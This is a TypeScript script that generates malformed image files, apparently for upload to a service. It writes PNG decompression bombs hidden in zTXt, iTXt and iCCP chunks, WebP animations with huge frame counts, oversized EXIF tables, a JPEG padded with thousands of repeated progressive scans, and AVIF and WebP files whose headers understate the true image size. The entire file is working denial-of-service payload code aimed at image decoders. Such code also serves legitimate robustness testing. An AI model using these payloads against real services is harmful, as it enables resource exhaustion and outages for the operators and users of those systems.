import { writeFileSync } from 'node:fs';
import { deflateSync, crc32 } from 'node:zlib';
import sharp from 'sharp';
const O='/tmp/up/';
const u32be=(n:number)=>{const b=Buffer.alloc(4);b.writeUInt32BE(n>>>0);return b;}; const u32le=(n:number)=>{const b=Buffer.alloc(4);b.writeUInt32LE(n>>>0);return b;};
const u24le=(n:number)=>{const b=Buffer.alloc(3);b.writeUIntLE(n,0,3);return b;};
const chunk=(t:string,d:Buffer)=>Buffer.concat([Buffer.from(t),u32le(d.length),d,Buffer.alloc(d.length%2)]);
// webp
const one=await sharp({create:{width:1,height:1,channels:4,background:{r:1,g:2,b:3,alpha:1}}}).webp({lossless:true}).toBuffer();
console.log(one.toString('latin1',12,16), one.length);
const at=one.indexOf('VP8L'); const vp8l=one.subarray(at, at+8+one.readUInt32LE(at+4)+(one.readUInt32LE(at+4)%2));
function anim(n:number,w=1,h=1){
 const fr=chunk('ANMF',Buffer.concat([u24le(0),u24le(0),u24le(0),u24le(0),u24le(100),Buffer.from([0]),vp8l]));
 const vp8x=chunk('VP8X',Buffer.concat([Buffer.from([0x12,0,0,0]),u24le(w-1),u24le(h-1)]));
 const an=chunk('ANIM',Buffer.from([0,0,0,0,0,0]));
 const body=Buffer.concat([Buffer.from('WEBP'),vp8x,an,...Array(n).fill(fr)]);
 return Buffer.concat([Buffer.from('RIFF'),u32le(body.length),body]);
}
const per=anim(2).length-anim(1).length; console.log('frame',per);
writeFileSync(O+'many.webp',anim(Math.floor(10e6/per)));
writeFileSync(O+'some.webp',anim(20000));
// PNG bombs
const pngBase=await sharp({create:{width:8,height:8,channels:3,background:'#f00'}}).png().toBuffer();
const pc=(t:string,d:Buffer)=>{const b=Buffer.concat([Buffer.from(t),d]);return Buffer.concat([u32be(d.length),b,u32be(crc32(b))]);};
const ins=(...c:Buffer[])=>Buffer.concat([pngBase.subarray(0,33),...c,pngBase.subarray(33)]);
const zbomb=(mb:number)=>deflateSync(Buffer.alloc(mb*1024*1024),{level:9});
const z=zbomb(1000); console.log('z',z.length);
writeFileSync(O+'ztxt.png',ins(pc('zTXt',Buffer.concat([Buffer.from('k\0\0'),z]))));
writeFileSync(O+'itxt.png',ins(pc('iTXt',Buffer.concat([Buffer.from('XML:com.adobe.xmp\0\x01\0\0\0'),z]))));
writeFileSync(O+'iccp.png',ins(pc('iCCP',Buffer.concat([Buffer.from('k\0\0'),z]))));
const z50=zbomb(7);
writeFileSync(O+'ztxts.png',ins(...Array.from({length:Math.floor(9.9e6/(z50.length+20))},()=>pc('zTXt',Buffer.concat([Buffer.from('k\0\0'),z50])))));
writeFileSync(O+'texts.png',ins(Buffer.concat(Array(600000).fill(pc('tEXt',Buffer.from('k\0v'))))));
// exif big in webp/png
const exif=Buffer.alloc(9_000_000);
exif.write('II*\0','latin1'); exif.writeUInt32LE(8,4); exif.writeUInt16LE(65535,8); for(let i=0;i<65535;i++){const o=10+i*12;exif.writeUInt16LE(0x10e,o);exif.writeUInt16LE(2,o+2);exif.writeUInt32LE(100000,o+4);exif.writeUInt32LE(800000,o+8);}
writeFileSync(O+'exif.png',ins(pc('eXIf',exif)));
{const w=await sharp({create:{width:8,height:8,channels:3,background:'#f00'}}).webp().toBuffer(); const vp=w.subarray(12); const body=Buffer.concat([Buffer.from('WEBP'),chunk('VP8X',Buffer.concat([Buffer.from([0x08,0,0,0]),u24le(7),u24le(7)])),vp,chunk('EXIF',exif)]); writeFileSync(O+'exif.webp',Buffer.concat([Buffer.from('RIFF'),u32le(body.length),body]));}
// jpeg many scans
const noise=await sharp({create:{width:7900,height:5000,channels:3,background:'#000',noise:{type:'gaussian',mean:128,sigma:60}}}).jpeg({quality:5,progressive:true}).toBuffer();
console.log('prog',noise.length);
writeFileSync(O+'prog.jpg',noise);
// flat progressive 40MP then repeat its last scan many times
const flat=await sharp({create:{width:7900,height:5000,channels:3,background:'#808080'}}).jpeg({quality:50,progressive:true}).toBuffer();
const sos:number[]=[];for(let i=0;i<flat.length-1;i++) if(flat[i]===0xff&&flat[i+1]===0xda) sos.push(i);
console.log('flat',flat.length,'scans',sos.length, sos);
const last=sos.at(-1)!; 
// small scan: find smallest refinement scan
let best={len:1e9,i:0}; for(let k=0;k<sos.length;k++){const end=k+1<sos.length?sos[k+1]!:flat.length-2;const len=end-sos[k]!; if(len<best.len) best={len,i:k};}
console.log(best);
const end=best.i+1<sos.length?sos[best.i+1]!:flat.length-2; const scan=flat.subarray(sos[best.i]!,end);
const reps=Math.floor((9.9e6-flat.length)/scan.length);
writeFileSync(O+'scans.jpg',Buffer.concat([flat.subarray(0,end),...Array(reps).fill(scan),flat.subarray(end)]));
console.log('reps',reps);
// avif
const av=await sharp({create:{width:7900,height:5000,channels:3,background:'#80a080'}}).avif({effort:0,quality:40}).toBuffer();
writeFileSync(O+'big.avif',av); console.log('avif',av.length);
const lie=Buffer.from(av); for(let i=lie.indexOf('ispe');i>=0;i=lie.indexOf('ispe',i+1)){lie.writeUInt32BE(100,i+8);lie.writeUInt32BE(100,i+12);} writeFileSync(O+'lie.avif',lie);
const av2=await sharp({create:{width:16000,height:16000,channels:3,background:'#80a080'}}).avif({effort:0,quality:40}).toBuffer();
const lie2=Buffer.from(av2); for(let i=lie2.indexOf('ispe');i>=0;i=lie2.indexOf('ispe',i+1)){lie2.writeUInt32BE(100,i+8);lie2.writeUInt32BE(100,i+12);} writeFileSync(O+'lie2.avif',lie2);
// webp lie: VP8X canvas 16x16 with 16383 frame
const wb=await sharp({create:{width:16383,height:2400,channels:3,background:'#80a080'}}).webp({effort:0}).toBuffer();
{const body=Buffer.concat([Buffer.from('WEBP'),chunk('VP8X',Buffer.concat([Buffer.from([0,0,0,0]),u24le(15),u24le(15)])),wb.subarray(12)]); writeFileSync(O+'lie.webp',Buffer.concat([Buffer.from('RIFF'),u32le(body.length),body]));}
